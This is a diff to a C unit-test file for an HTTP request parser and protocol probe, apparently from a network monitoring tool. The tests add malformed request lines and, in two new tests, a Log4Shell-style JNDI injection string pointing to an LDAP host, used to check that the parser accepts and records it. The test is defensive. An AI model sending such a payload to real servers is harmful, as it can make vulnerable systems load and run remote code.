@@ -192,12 +192,12 @@ static void test_garbage(void **state)
     http_request_t q;
     http_response_t s;
     const char *bad_req[] = {
-        "FOO BAR\r\n\r\n",         /* no protocol */
-        "GET /\r\n\r\n",           /* HTTP/0.9 is not parsed */
-        "GET / SIP/2.0\r\n\r\n",   /* not HTTP */
-        " GET / HTTP/1.1\r\n\r\n", /* leading space */
-        "GET  HTTP/1.1\r\n\r\n",   /* no URI */
-        "G(T / HTTP/1.1\r\n\r\n",  /* method not a token */
+        "FOO BAR\r\n\r\n",           /* no protocol */
+        "GET /\r\n\r\n",             /* HTTP/0.9 is not parsed */
+        "GET / SIP/2.0\r\n\r\n",     /* not HTTP */
+        " GET / HTTP/1.1\r\n\r\n",   /* leading space */
+        "GET  HTTP/1.1\r\n\r\n",     /* no URI */
+        "G\x01T / HTTP/1.1\r\n\r\n", /* control byte in the method */
         "GET / HTTP/1.1\r\nContent-Length: 1x\r\n\r\n",
         "GET / HTTP/1.1\r\nContent-Length: 1234567890123456789\r\n\r\n",
         "\x16\x03\x01\x02\x05\x01\x07\n\n",
@@ -363,6 +363,19 @@ static void test_body_skip(void **state)
     assert_false(http_body_skip(&b, 1)); /* in a size line: framing lost */
 }
 
+/* An attack string in the method position parses, the method as libhtp
+ * takes it (up to the first space). */
+static void test_unlisted_method(void **state)
+{
+    (void)state;
+    const char *req = "${jndi:ldap://203.0.113.9/a} /x HTTP/1.1\r\nHost: h\r\n\r\n";
+    http_request_t r;
+    assert_int_equal(http_parse_request(U8(req), strlen(req), &r), APP_PARSE_DONE);
+    assert_span(r.method, "${jndi:ldap://203.0.113.9/a}");
+    assert_span(r.uri, "/x");
+    assert_span(r.host, "h");
+}
+
 static void test_probe(void **state)
 {
     (void)state;
@@ -372,6 +385,14 @@ static void test_probe(void **state)
     assert_false(http_probe_request(U8("GEX"), 3));
     assert_false(http_probe_request(U8("get / HTTP/1.1"), 14));
     assert_false(http_probe_request(U8("SSH-2.0-OpenSSH"), 15));
+    /* unlisted methods: only as a whole request line ending in HTTP/1.x */
+    const char *jndi = "${jndi:ldap://203.0.113.9/a} / HTTP/1.1\r\nHost: x\r\n\r\n";
+    assert_true(http_probe_request(U8(jndi), strlen(jndi)));
+    assert_true(http_probe_request(U8("X / HTTP/1.0\n"), 13));
+    assert_false(http_probe_request(U8("X / HTTP/1.1"), 12));     /* line not complete */
+    assert_false(http_probe_request(U8("X / HTTP/2.0\r\n"), 14)); /* not HTTP/1.x */
+    assert_false(http_probe_request(U8("X HTTP/1.1\r\n"), 12));   /* no target */
+    assert_false(http_probe_request(U8("X\x01 / HTTP/1.1\r\n"), 16));
     assert_true(http_probe_response(U8("HTTP/1.1 200 OK"), 15));
     assert_false(http_probe_response(U8("HTTP/2"), 6));
     assert_true(http_probe_response(U8("HTTP/1"), 6));
@@ -443,6 +464,7 @@ int main(void)
         cmocka_unit_test(test_no_body_cases),
         cmocka_unit_test(test_body_skip),
         cmocka_unit_test(test_probe),
+        cmocka_unit_test(test_unlisted_method),
         cmocka_unit_test(test_eve_http),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
